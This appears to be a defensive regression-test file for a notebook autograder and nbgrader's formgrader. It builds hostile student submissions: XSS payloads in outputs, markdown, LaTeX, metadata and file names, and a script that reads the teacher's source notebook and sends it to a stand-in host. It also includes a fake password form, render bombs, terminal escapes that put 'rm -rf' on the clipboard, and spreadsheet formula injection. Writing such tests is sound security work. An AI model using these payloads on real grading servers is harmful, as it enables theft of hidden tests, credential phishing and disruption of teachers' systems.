"""Right answers that come with something which would run, load or mislead in feedback or report."""

import base64

from tests.autograder.hostile.catalogue import Desk, own_cell, submission
from tests.autograder.tiny_assignment import as_bytes

RUN = "window.hostile=1;document.title='hostile';alert(1)"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src=x onerror="{RUN}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{SCRIPT}<rect width="9"/></svg>'
BREAK_OUT = f"</pre></code></span></details></div></main></body>--></style></title>{SCRIPT}"


def displaying(desk: Desk, kind: str, *values: str) -> dict:
    """Outputs of one type, by the display protocol itself."""
    return desk.with_cell(f"for value in {values!r}: display({{{kind!r}: value}}, raw=True)", at=2)


def written(desk: Desk, text: str) -> dict:
    """A written answer, and a cell of text of the student's own."""
    notebook = desk.answered(why=text)
    notebook["cells"].append(own_cell("markdown", text))
    notebook["cells"].append(own_cell("raw", text))
    return notebook


@submission(points=6)
def script_in_html(desk: Desk):
    """A script, in several spellings, as rich output."""
    return displaying(
        desk, "text/html", SCRIPT, SCRIPT.replace("script", "ScRiPt"),
        f"<script\n>{RUN}</script\n>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f'<script src="data:text/javascript,{RUN}"></script>', f"<!--><script>{RUN}</script>-->",
        f"<noscript><p title='</noscript>{SCRIPT}'>", f"<template>{SCRIPT}</template>",
    )  # fmt: skip


@submission(points=6)
def handlers_in_html(desk: Desk):
    """Attributes that run something."""
    return displaying(
        desk, "text/html", IMAGE, f'<b onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex=1>x',
        f'<details open ontoggle="{RUN}">x</details>', f'<body onload="{RUN}">',
        f'<table background="javascript:{RUN}"><td style="width:expression({RUN})">x</table>',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
        f"<svg><style><img src='</style>{IMAGE}'>", f'<input autofocus onfocus="{RUN}">',
    )  # fmt: skip


@submission(points=6)
def links_in_html(desk: Desk):
    """Addresses that run something, frames and forms."""
    return displaying(
        desk, "text/html", f'<a href="javascript:{RUN}">x</a>', f'<iframe srcdoc="{SCRIPT}">',
        f'<iframe src="javascript:{RUN}">', f'<object data="data:text/html,{SCRIPT}">',
        f'<embed src="data:text/html,{SCRIPT}">', f'<form action="javascript:{RUN}"><button>x',
        f'<meta http-equiv=refresh content="0;url=data:text/html,{SCRIPT}">',
        '<base href="https://example.org/">', '<link rel=stylesheet href="https://example.org/x">',
        "<style>@import url(https://example.org/x); body {display: none}</style>",
        '<img src="https://example.org/pixel"><video src="https://example.org/v" autoplay>',
    )  # fmt: skip


@submission(points=6)
def javascript(desk: Desk):
    """Output that is a script, by its type."""
    return desk.with_cell(
        f"""
        from IPython.display import Javascript
        display(Javascript({RUN!r}))
        display({{"application/javascript": {RUN!r}, "text/html": {SCRIPT!r}}}, raw=True)
        """,
        at=2,
    )


@submission(points=6)
def vector_graphics(desk: Desk):
    """A drawing with a script, with foreign HTML, and with references to elsewhere."""
    foreign = f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</body>"
    outside = '<image href="https://example.org/x.png"/><use href="https://example.org/x.svg#a"/>'
    return displaying(
        desk, "image/svg+xml", SVG, f"<svg>{foreign}</foreignObject></svg>",
        f"<svg>{outside}</svg>", f'"><script>{RUN}</script>', f"<?xml version='1.0'?>{SVG}",
    )  # fmt: skip


@submission(points=6)
def pictures_that_are_none(desk: Desk):
    """Scripts in the place of a picture's bytes, raw and encoded."""
    return desk.with_cell(
        f"""
        for kind in ("image/png", "image/jpeg", "image/gif"):
            for data in ({f'x" onerror="{RUN}'!r}, {base64.b64encode(SVG.encode()).decode()!r}):
                display({{kind: data}}, raw=True)
        """,
        at=2,
    )


@submission(points=6)
def markdown_output(desk: Desk):
    """Markdown as rich output, with HTML, links and pictures that run or load something."""
    return displaying(
        desk, "text/markdown", SCRIPT, IMAGE, f"[x](javascript:{RUN})",
        f"[x](JaVaScRiPt&#58;{RUN})", f"![x](javascript:{RUN})", "![x](https://example.org/pixel.png)",
        f'[x]: javascript:{RUN}\n[x]', f'[x](https://example.org/"onmouseover="{RUN})',
        f"<javascript:{RUN}>", f"```\n</code></pre>{SCRIPT}\n```",
    )  # fmt: skip


@submission(points=6)
def latex(desk: Desk):
    """Formulas that reach for HTML, links, files and endless expansion."""
    attacks = (
        rf"$\href{{javascript:{RUN}}}{{x}}$", rf"$$\unicode{{<img src=x onerror={RUN}>}}$$",
        r"$\input{/etc/passwd}$", r"$\def\x{\x\x}\x$", rf"$\text{{{SCRIPT}}}$",
        r"$\style{behavior:url(https://example.org)}{x}$", "$" + "{" * 3000 + "}" * 3000 + "$",
    )  # fmt: skip
    notebook = written(desk, "\n\n".join(attacks))
    code = f"for value in {attacks!r}: display({{'text/latex': value}}, raw=True)"
    notebook["cells"].insert(2, own_cell("code", code))
    return notebook


@submission(points=6)
def terminal_escapes(desk: Desk):
    """Escapes that name a window, make links, move the cursor, answer questions."""
    escapes = (
        f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07", "\x1b]0;hostile\x07", "\x1b[2J\x1b[H",
        f"\x1b[31m{SCRIPT}", '\x1b[31"onmouseover="alert(1)m', "\x1b[6n\x1b[c", "\x1bPq\x1b\\",
        "\x9b31m", "\x1b[" + "9;" * 5000 + "m", "\x00\x08\x7f\u202e\u2066",
    )  # fmt: skip
    return desk.with_cell(
        f"import sys\nfor text in {escapes!r}: print(text); print(text, file=sys.stderr)", at=2
    )


@submission(points=6)
def printed_html(desk: Desk):
    """Plain text that would be HTML if nobody escaped it."""
    return desk.with_cell(f"print({BREAK_OUT!r})\n{BREAK_OUT!r}", at=2)


@submission(points=6)
def source_that_breaks_out(desk: Desk):
    """The answer's own text ends the elements around it."""
    return desk.answered(double=f"def double(x):\n    # {BREAK_OUT}\n    return 2 * x")


@submission(points=6)
def errors_with_html(desk: Desk):
    """Name, message and traceback of an error of the student's own cell."""
    return desk.with_cell(f"raise type({SCRIPT!r}, (Exception,), {{}})({BREAK_OUT!r})", at=2)


@submission(points=3)
def messages_with_html(desk: Desk):
    """The message of a test that failed by the student's error, for feedback and report."""
    return desk.answered(double=f"def double(x):\n    raise ValueError({'`' + BREAK_OUT + '`'!r})")


@submission(points=6)
def written_html(desk: Desk):
    """HTML and scripts in the written answer."""
    return written(desk, f"{SCRIPT}\n\n{IMAGE}\n\n{SVG}\n\n{BREAK_OUT}")


@submission(points=6)
def written_markdown(desk: Desk):
    """Markdown in the written answer whose links and pictures run or load something."""
    return written(
        desk,
        f"[x](javascript:{RUN}) [y](data:text/html,{SCRIPT}) ![z](https://example.org/z.png)\n\n"
        f"<javascript:{RUN}>\n\n| a |\n|---|\n| {IMAGE} |\n\n~~{SCRIPT}~~\n\n    {SCRIPT}",
    )


@submission(points=6)
def attachments(desk: Desk):
    """Pasted pictures with names and contents that are none."""
    notebook = desk.answered()
    notebook["cells"][-1]["attachments"] = {
        f'x" onerror="{RUN}': {"image/png": f'x" onerror="{RUN}'},
        "drawing.svg": {"image/svg+xml": SVG, "text/html": SCRIPT},
        "../../x.png": {"image/png": base64.b64encode(b"\x89PNG\r\n\x1a\nrest").decode()},
    }
    return notebook


@submission(points=6)
def outputs_that_were_never_made(desk: Desk):
    """Outputs and full marks that stand in the file which was handed in."""
    notebook = desk.answered()
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            data = {"text/html": SCRIPT, "text/plain": "999"}
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "data": data,
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
    return notebook


@submission(points=6)
def metadata_with_html(desk: Desk):
    """Titles, languages and identifiers that end the elements around them."""
    notebook = desk.answered()
    notebook["metadata"] |= {"title": BREAK_OUT, "authors": [{"name": SCRIPT}]}
    notebook["metadata"]["kernelspec"] = {"name": SCRIPT, "display_name": SCRIPT}
    notebook["metadata"]["language_info"] = {"name": BREAK_OUT, "pygments_lexer": "../x"}
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f'x{number}" onmouseover="{RUN}'
    return notebook


@submission(points=6)
def widgets(desk: Desk):
    """A widget whose text is a script, and the state that a page would load it from."""
    return desk.with_cell(
        f"import ipywidgets\ndisplay(ipywidgets.HTML({SCRIPT!r}), ipywidgets.Output())", at=2
    )


@submission(points=6)
def templates(desk: Desk):
    """What a template engine would evaluate."""
    evil = "{{ 7919 * 7919 }} {% include 'style.css' %} {{ cycler.__init__.__globals__.os }}"
    return written(desk, f"{evil} ${{7919 * 7919}} #{{7919 * 7919}}")


@submission(points=6, file="&lt;img src=x onerror=alert(1)&gt;.ipynb")
def name_with_html(desk: Desk):
    """The student's name is an element that runs something, spelled by entities. With `<` it
    succeeded before in the formgrader, and is refused now."""
    return desk.answered()


@submission(points=6, file="=HYPERLINK(1).ipynb")
def name_that_is_a_formula(desk: Desk):
    """The student's name is a formula in the teacher's spreadsheet."""
    return desk.answered()


@submission(points=6, file='x" onmouseover="alert(1)/tiny.ipynb')
def name_with_quotes(desk: Desk):
    """The student's name ends an attribute and begins another."""
    return desk.answered()


@submission(points=6)
def cell_names_with_html(desk: Desk):
    """Identifiers of the student's own cells."""
    notebook = desk.answered()
    marks = {"grade_id": BREAK_OUT, "grade": False, "solution": True, "locked": False}
    marks |= {"schema_version": 3, "cell_type": "code", "task": False}
    cell = own_cell("code", "while True: pass")
    notebook["cells"].append(cell | {"metadata": {"nbgrader": marks}})
    return notebook


# What follows aims at those who open the graded notebook itself, nbgrader's formgrader first of
# all: what it shows stands in a page of the teacher's server, beside the hidden tests. "Succeeded
# before" is said where it did so while graded notebooks had text and outputs as they were made.

SOURCE = "/files/source/tiny/tiny.ipynb"
SEND = "t => {window.hostile = t; new Image().src = 'https://example.org/?' + t}"
STEAL = f"{RUN};fetch('{SOURCE}').then(r => r.text()).then({SEND})"
COVER = "position:fixed;inset:0;z-index:9999;background:white"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)


def published(desk: Desk, data: dict, metadata: object) -> dict:
    """An output with metadata, by the protocol itself."""
    return desk.with_cell(f"get_ipython().display_pub.publish({data!r}, {metadata!r})", at=2)


def shown_everywhere(desk: Desk, *pages: str) -> dict:
    """As text, and as HTML that code made."""
    notebook = written(desk, "\n\n".join(pages))
    code = f"for page in {pages!r}: display({{'text/html': page}}, raw=True)"
    notebook["cells"].insert(2, own_cell("code", code))
    return notebook


@submission(points=6)
def thief_in_text(desk: Desk):
    """A script in a text reads the source notebook with the teacher's session, and sends it away.
    Succeeded before."""
    return written(desk, f"<script>{STEAL}</script>")


@submission(points=6)
def thief_in_html(desk: Desk):
    """The same in an output that is HTML. Succeeded before."""
    return displaying(desk, "text/html", f"<script>{STEAL}</script>")


@submission(points=6)
def thief_in_javascript(desk: Desk):
    """The same in an output that is a script by its type. Succeeded before."""
    return displaying(desk, "application/javascript", STEAL)


@submission(points=6)
def thief_in_a_handler(desk: Desk):
    """The same when a picture that isn't there fails to load, in a table's cell of a text.
    Succeeded before."""
    return written(desk, f'| a |\n|---|\n| <img src=x onerror="{STEAL}"> |')


@submission(points=6)
def thief_in_markdown_output(desk: Desk):
    """The same in Markdown that code made. Succeeded before."""
    return displaying(desk, "text/markdown", f"a\n\n<script>{STEAL}</script>\n\nb")


@submission(points=6)
def source_in_a_frame(desk: Desk):
    """Frames, objects and style sheets whose address is the source notebook. Succeeded before."""
    return written(
        desk,
        f'<iframe src="{SOURCE}"></iframe><object data="{SOURCE}"></object><embed src="{SOURCE}">'
        f'\n\n<link rel=stylesheet href="{SOURCE}"><link rel=prefetch href="{SOURCE}">'
        f"\n\n![x]({SOURCE})",
    )


@submission(points=6)
def width_that_runs(desk: Desk):
    """A picture's width, which templates put into a tag without quotes. Succeeded before."""
    sizes = {"width": f"1 onload={RUN.replace(' ', '')}", "height": f"1 onclick={RUN}"}
    return published(desk, {"image/png": PIXEL}, {"image/png": sizes, **sizes})


@submission(points=6)
def picture_under_another_name(desk: Desk):
    """Metadata that says where a picture's file is: elsewhere. Succeeded before."""
    names = dict.fromkeys(("image/png", "image/jpeg"), "https://example.org/pixel.png")
    return published(desk, {"image/png": PIXEL}, {"filenames": names})


@submission(points=6)
def page_in_a_frame_of_its_own(desk: Desk):
    """HTML that metadata puts into a frame, with a form. Succeeded before."""
    page = f"<form action='https://example.org'><input name=password></form>{SCRIPT}"
    return published(desk, {"text/html": page}, {"text/html": {"isolated": True}})


@submission(points=6)
def metadata_that_is_a_list(desk: Desk):
    """Metadata of an output that is no mapping, over which nbgrader's templates give up.
    Succeeded before."""
    return published(desk, {"image/png": PIXEL, "text/html": "<b>x</b>"}, [1, 2])


@submission(points=6)
def metadata_that_is_text(desk: Desk):
    """Metadata that is text, also that of one type. Succeeded before."""
    notebook = published(desk, {"text/html": "<b>x</b>"}, {"text/html": "isolated"})
    code = f"get_ipython().display_pub.publish({{'image/png': {PIXEL!r}}}, 'x')"
    notebook["cells"].insert(2, own_cell("code", code))
    return notebook


@submission(points=6)
def attachment_that_is_missing(desk: Desk):
    """A picture that isn't attached, over which the formgrader gives up. Succeeded before."""
    return written(desk, "![x](attachment:nowhere.png)")


@submission(points=6)
def attachment_that_is_a_page(desk: Desk):
    """Attached HTML and a drawing with a script, in the place of pictures. Failed before."""
    notebook = written(desk, "![x](attachment:a.png) ![y](attachment:b.svg)")
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            page = base64.b64encode(SCRIPT.encode()).decode()
            cell["attachments"] = {"a.png": {"text/html": page}, "b.svg": {"image/svg+xml": SVG}}
    return notebook


@submission(points=6)
def attachment_shown_again_and_again(desk: Desk):
    """One picture of 100 kB that is shown 3,000 times: a page of 400 MB. Succeeded before."""
    notebook = desk.answered(why="![x](attachment:a.png)" * 3_000)
    raw = base64.b64decode(PIXEL) + bytes(100_000)
    picture = {"image/png": base64.b64encode(raw).decode()}
    notebook["cells"][-1]["attachments"] = {"a.png": picture}
    return notebook


@submission(points=6)
def pixel_that_tells(desk: Desk):
    """Remote pictures that tell when the page was opened, in every way to write one.
    Succeeded before."""
    address = "https://example.org/pixel.png"
    return written(
        desk,
        f"![x]({address}) ![y][z] [![q]({address})](https://example.org)\n\n[z]: {address} 'x'\n\n"
        f"![n\nl](<{address}>) ![e](https&#58;//example.org/pixel.png)",
    )


@submission(points=6)
def links_that_run(desk: Desk):
    """Links whose address is a script: inline, by reference, escaped, by a name on two lines.
    Succeeded before."""
    return written(
        desk,
        f"[a](javascript:{RUN}) [b][r] [c](java\\script:{RUN}) [d](<javascript:{RUN}>) [r]\n\n"
        f"[r]: javascript:{RUN}\n\n> [s\nt]: javascript:{RUN}\n\n[e](&#106;avascript:{RUN})",
    )


@submission(points=6)
def links_into_the_server(desk: Desk):
    """Links that lead the teacher, who is signed in, to the server's own addresses.
    Succeeded before."""
    return written(desk, f"[Next submission]({SOURCE}) [x](/logout) [y](../../../shutdown)")


@submission(points=6)
def heading_that_takes_a_box(desk: Desk):
    """Headings whose words are the ids of the boxes for points: a teacher's points are lost.
    Succeeded before."""
    notebook = desk.answered()
    names = "# why\n\nwhy_extra_credit\n===\n\n> ## double_small\n\n- # **why**\n\nwhy-comment\n---"
    notebook["cells"].insert(0, own_cell("markdown", names))
    return notebook


@submission(points=6)
def page_that_is_covered(desk: Desk):
    """Styles that lay a page of the student's over that of the teacher's. Succeeded before."""
    cover = f'<div style="{COVER}"><h1>10 of 10 points</h1></div>'
    return shown_everywhere(desk, cover, "<style>.score {opacity: 0}</style>")


@submission(points=6)
def form_for_a_password(desk: Desk):
    """A form that asks for the teacher's password, and one that gives points. Succeeded before."""
    form = (
        '<form action="https://example.org" method=post>Session expired: <input type=password>'
        '<button>OK</button></form><form action="/formgrader/api/grade/1" method=post></form>'
    )
    return shown_everywhere(desk, form)


@submission(points=6)
def elements_that_are_not_closed(desk: Desk):
    """Elements that end those of the page around them, and begin others. Succeeded before."""
    ends = "</div></td></tr></table></ul>" * 9 + "<plaintext>"
    return shown_everywhere(
        desk, ends, f"<ul><li><div><li>a</div></ul>{ends}", "<h1><div><h2></div></h1></div></div>",
        "<table><tr><td><table>" + "</table>" * 9, "<!-- ", "<textarea>", "<select>",
    )  # fmt: skip


@submission(points=6)
def names_for_elements(desk: Desk):
    """Elements called like what the formgrader's scripts look for by name.
    They were there before."""
    page = '<a id=base_url href="//example.org"></a><img name=submission_id><p id=statusmessage>'
    return displaying(desk, "text/html", page, page.replace("<p", "<div class=score tabindex=1"))


@submission(points=6)
def meta_elements(desk: Desk):
    """Elements that send the page elsewhere, or change what its addresses mean.
    Succeeded before."""
    away = '<meta http-equiv="refresh" content="0;url=https://example.org/">'
    return shown_everywhere(desk, away, '<base href="https://example.org/">')


@submission(points=6)
def tags_in_disguise(desk: Desk):
    """Tags with signs between their letters, in full width, and cut in two. Failed before where
    a browser sees no tag; `<SCRIPT/x>` and `<img/src>` succeeded."""
    return written(
        desk,
        f"<SCRIPT/x>{RUN}</SCRIPT> <img/src=x/onerror={RUN}> <scr\x00ipt>{RUN}</script>\n\n"
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e <\u200bscript>{RUN}</script> <\nscript>{RUN}",
    )


@submission(points=6)
def formulas_that_lead_elsewhere(desk: Desk):
    r"""Formulas with links, styles, scripts of MathJax's own, and MathML with attributes.
    It all reached MathJax before,
    which itself refuses some."""
    attacks = (
        rf"$\href{{javascript:{RUN}}}{{x}}$", rf"$\url{{javascript:{RUN}}}$",
        rf'$\mmlToken{{mi}}[href="javascript:{RUN}"]{{x}}$', rf"$\style{{{COVER}}}{{x}}$",
        r"$\require{../../../../files/evil}$", r"$\class{score}{x}$ $\cssId{why}{x}$",
        r"$\htmlId{why}{x} \htmlStyle{position:fixed}{x} \includegraphics{https://example.org/x}$",
    )  # fmt: skip
    notebook = written(desk, "\n\n".join(attacks))
    code = f"for value in {attacks!r}: display({{'text/latex': value}}, raw=True)"
    notebook["cells"].insert(2, own_cell("code", code))
    return notebook


@submission(points=6)
def formulas_spelled_otherwise(desk: Desk):
    r"""The same behind entities, escapes, and tags that are taken out. Reached MathJax before."""
    link = f"{{javascript:{RUN}}}{{x}}"
    return shown_everywhere(
        desk, f"&#36;&#92;href{link}&#36; \\$\\\\href{link}\\$", f"&dollar;&bsol;href{link}$",
        f"$\\hr<foo>ef{link}$", f"$\\hr<!-- -->ef{link}$",
    )  # fmt: skip


@submission(points=6)
def formulas_that_move(desk: Desk):
    r"""Formulas that paint over what stands far from them, or make others mean something else.
    Reached MathJax before."""
    return written(
        desk,
        r"$\rlap{\hspace{-40em}\raise 30em{\colorbox{white}{10 of 10}}}$ $\Rule{99em}{99em}{9em}$"
        "\n\n"
        r"$\renewcommand{\le}{\ge} \def\epsilon{\delta} \let\alpha\beta$"
        "\n\n"
        r"$$\begin{array}{c} a \\[-50em] b \end{array} \kern-90em x$$",
    )


@submission(points=6)
def drawing_without_end(desk: Desk):
    """A drawing whose parts use ten others each, and one that defines its words by others: a
    browser draws them for hours. It was shown before."""
    parts = "".join(
        f'<g id="p{n}">' + f'<use href="#p{n - 1}"/>' * 10 + "</g>" for n in range(1, 12)
    )
    bomb = f'<svg xmlns="http://www.w3.org/2000/svg"><g id="p0"><rect width="9"/></g>{parts}</svg>'
    words = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    billion = f'<!DOCTYPE svg [<!ENTITY a0 "x">{words}]><svg><text>&a11;</text></svg>'
    return displaying(desk, "image/svg+xml", bomb, billion)


@submission(points=6)
def drawing_with_everything(desk: Desk):
    """Scripts, styles, animations, frames and pictures from elsewhere, under prefixes too.
    Failed before in the formgrader, which makes a picture of it; other viewers don't."""
    return displaying(
        desk, "image/svg+xml",
        f"<svg xmlns:s='http://www.w3.org/2000/svg'><s:script>{RUN}</s:script></svg>",
        "<svg><style>@import 'https://example.org/x'; * {fill: url(https://example.org/y)}</style>"
        f"<a href='javascript:{RUN}'><rect width='9' style='{COVER}'/></a></svg>",
        f"<svg><set attributeName='href' to='javascript:{RUN}'/><animate onbegin='{RUN}'/></svg>",
        "<svg><use href='https://example.org/x.svg#a'/><feImage href='https://example.org/x'/></svg>",
    )  # fmt: skip


@submission(points=6)
def picture_of_ten_billion_pixels(desk: Desk):
    """Small files of pictures that say they are 100,000 pixels wide and high.
    They were shown before."""
    raw = bytearray(base64.b64decode(PIXEL))
    raw[16:24] = (100_000).to_bytes(4, "big") * 2
    wide = base64.b64encode(bytes(raw)).decode()
    gif = base64.b64encode(b"GIF89a\xff\xff\xff\xff\x00\x00\x00;").decode()
    both = {"image/png": wide, "image/gif": gif}
    return desk.with_cell(
        f"for kind, data in {both!r}.items(): display({{kind: data}}, raw=True)", at=2
    )


@submission(points=6)
def maps_and_charts(desk: Desk):
    """Outputs of types that extensions show, with addresses to load and expressions to run.
    Failed before in the formgrader, which leaves them out; JupyterLab loads what they say."""
    address = "https://example.org/data.json"
    kinds = {
        "application/vnd.vega.v5+json": {"data": [{"url": address}], "signals": [{"update": RUN}]},
        "application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": address}]}},
        "application/geo+json": {"type": "Point", "url_template": address},
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"},
        "application/vnd.jupyter.widget-state+json": {"state": {}}, "text/vnd.mermaid": BREAK_OUT,
    }  # fmt: skip
    return desk.with_cell(
        f"for kind, value in {kinds!r}.items(): display({{kind: value}}, raw=True)", at=2
    )


@submission(points=6)
def diagram(desk: Desk):
    """Fenced text that a viewer gives to a program which draws it, unescaped. Succeeded before."""
    click = f'graph LR\nA-->B\nclick A href "javascript:{RUN}"\nB["{IMAGE}"]'
    return written(desk, f"```mermaid\n{click}\n```\n\n> ~~~~ mermaid\n> {click}\n> ~~~~")


@submission(points=6)
def marks_of_cells(desk: Desk):
    """Tags, alternative texts, kinds of raw text and languages in the metadata of cells.
    Failed before under `autograder grade`, succeeded under nbgrader alone."""
    notebook = written(desk, f"a {IMAGE}")
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": [BREAK_OUT, {}], "alt": '" onload="alert(1)', "name": SCRIPT}
        cell["metadata"] |= {"raw_mimetype": "text/html", "format": "text/html", "slides": SCRIPT}
        cell["metadata"] |= {"magics_language": SCRIPT, "jupyter": {"source_hidden": True}}
    return notebook


@submission(points=6)
def colours_of_a_terminal(desk: Desk):
    """Escapes that hide text, join lines, or are as long as a page. Failed before."""
    texts = ("\x1b[8mhidden\x1b[0m", "10\b\b\b 9", "\x1b[" + "38;" * 9_000 + "m", "\x1b[1")
    return desk.with_cell(f"for text in {texts!r}: print(text, end='')", at=2)


@submission(points=3)
def commands_in_an_error(desk: Desk):
    """A message that sets the clipboard of the teacher's terminal, clears and resets it. Succeeded
    before in what `grade`, `explain` and `check` print."""
    text = "\x1b]52;c;cm0gLXJm\x1b\\\x1bc\x1b[2J\x1b[1A\x9b2J\x1b]8;;javascript:1\x07x"
    return desk.answered(double=f"def double(x):\n    raise ValueError({text!r})")


@submission(points=6)
def text_that_turns_round(desk: Desk):
    """Signs that turn the direction of writing, so that a teacher reads another answer and other
    code than ran. Succeeded before in text and outputs; code is shown as it is."""
    notebook = written(desk, "The answer is \u202e01 fo 01\u202c \u2067abc\u2069.")
    notebook["cells"].insert(2, own_cell("code", "print('\u202eabc')"))
    return notebook


@submission(points=6)
def nested_markup(desk: Desk):
    """Three outputs of elements inside one another, in 60,000 characters each. Succeeded before:
    feedback took 20 seconds."""
    return displaying(desk, "text/html", "<b>" * 19_000, "<div><p>" * 7_000, "<table><b>" * 5_900)


@submission(points=6)
def unclosed_markup(desk: Desk):
    """Scripts, comments, quotes and entities that never end, each searched for its end from every
    beginning. Succeeded before: some seconds each."""
    return displaying(
        desk, "text/html", "<script>" * 7_000, "<!--" * 14_000, '<a b="' * 9_000, "<" * 59_000,
        "&#" * 29_000, "<a " * 19_000, "</b" * 19_000, "<svg><style>" * 4_900,
    )  # fmt: skip


@submission(points=6)
def blank_lines(desk: Desk):
    """An answer of code and one in words that are empty lines. Succeeded before: with 50,000 in
    an answer of code the report took 25 seconds."""
    text = "def double(x):\n    return 2 * x" + "\n" * 9_000 + "#"
    return desk.answered(double=text, why="a" + "\n" * 49_000 + "b")


@submission(points=6)
def lines_of_spaces(desk: Desk):
    """An answer of lines that are white space, and of one line that is. Succeeded before."""
    blank = "    \t\n" * 6_000 + " " * 16_000
    return desk.answered(double=f"def double(x):\n    return 2 * x\n{blank}\n#{blank}", why=blank)


@submission(points=0)
def millions_of_words_without_marks(desk: Desk):
    """28 MB of words in a cell that has lost its mark. Succeeded before: it was compared with each
    cell of the problem set, 49 seconds outside any limit. Now it says that it is too long."""
    notebook = desk.answered()
    for cell in notebook["cells"]:
        cell["metadata"] = {}
        cell["id"] = "none"
    notebook["cells"].append(own_cell("markdown", "a " * (14 << 20)))
    return as_bytes(notebook)


@submission(points=6)
def quotations_and_lists_without_end(desk: Desk):
    """Markdown nested as deep as there is room. Failed before: some tenths of a second."""
    deep = "".join("  " * n + "- a\n" for n in range(130))
    return written(desk, "> " * 9_000 + "\n\n" + deep + "\n\n" + "1. " * 5_000)


@submission(points=6)
def brackets_without_end(desk: Desk):
    """Brackets, stars, backticks and dollars that open and never close. Succeeded before: the
    formgrader took many seconds for a page."""
    notebook = desk.answered(why="\\\\[a" * 4_900)
    for sign in ("[", "*a ", "`a ``", "$a ", "![", "~~a", "\\\\(a", "<a ", "[a][b", "_a *"):
        notebook["cells"].append(own_cell("markdown", sign * (19_900 // len(sign))))
    return notebook


@submission(points=6)
def thousands_of_outputs(desk: Desk):
    """As many outputs as fit, of every kind in turn. Failed before: some seconds."""
    return desk.with_cell(
        """
        for n in range(2_000):
            display({"text/html": f"<b>{n}</b>"}, raw=True)
            display({"text/markdown": f"*{n}*"}, raw=True)
            print(n)
        """,
        at=2,
    )


@submission(points=6)
def code_that_is_hard_to_colour(desk: Desk):
    """Code that a highlighter tries in many ways: brackets, quotes, digits. Failed before: some
    seconds."""
    hard = "#" + "('" * 9_000 + "\n#" + "0_" * 9_000 + "\n#" + "f'{" * 6_000
    notebook = desk.answered(double=f"{hard}\ndef double(x):\n    return 2 * x")
    notebook["cells"] += [own_cell("code", f"{hard} {n}") for n in range(20)]
    return notebook


@submission(points=6, file="zero\u200bwidth\ufeff.ipynb")
def name_with_zero_width(desk: Desk):
    """A name with signs that can't be seen. Succeeded before: it looked like another's."""
    return desk.answered()


@submission(points=6, file="\u202eyppah_\u2067.ipynb")
def name_from_right_to_left(desk: Desk):
    """A name that turns round what stands behind it, points too. Succeeded before."""
    return desk.answered()


@submission(points=6, file="\u3164/tiny.ipynb")
def name_that_is_blank(desk: Desk):
    """A name of one letter that is drawn as nothing. Succeeded before."""
    return desk.answered()


@submission(points=6, file="\uff1d1+1.ipynb")
def name_in_full_width(desk: Desk):
    """A formula whose first sign is in full width. Succeeded before in the report's table."""
    return desk.answered()


@submission(points=6, file="\ufeff\u200b\uff0d1+1/tiny.ipynb")
def name_behind_what_is_not_seen(desk: Desk):
    """The same behind signs without width. Succeeded before in every table."""
    return desk.answered()


@submission(points=6, file="x;=HYPERLINK(1);y.ipynb")
def name_of_three_cells(desk: Desk):
    """A formula between semicolons, where half of Europe's spreadsheets begin a new cell.
    Succeeded before in every table."""
    return desk.answered()


@submission(points=3)
def message_that_is_a_formula(desk: Desk):
    """The message of an error begins with a formula on a line of its own. Failed before: messages
    aren't in the tables."""
    return desk.answered(double="def double(x):\n    raise ValueError('\\n=HYPERLINK(1)')")


@submission(points=0)
def format_that_commands_a_terminal(desk: Desk):
    """An old format that is called by an escape sequence. Succeeded before: `grade` printed it."""
    return b'{"nbformat": "\\u001b]0;hostile\\u0007\\u202e<b>", "worksheets": []}'
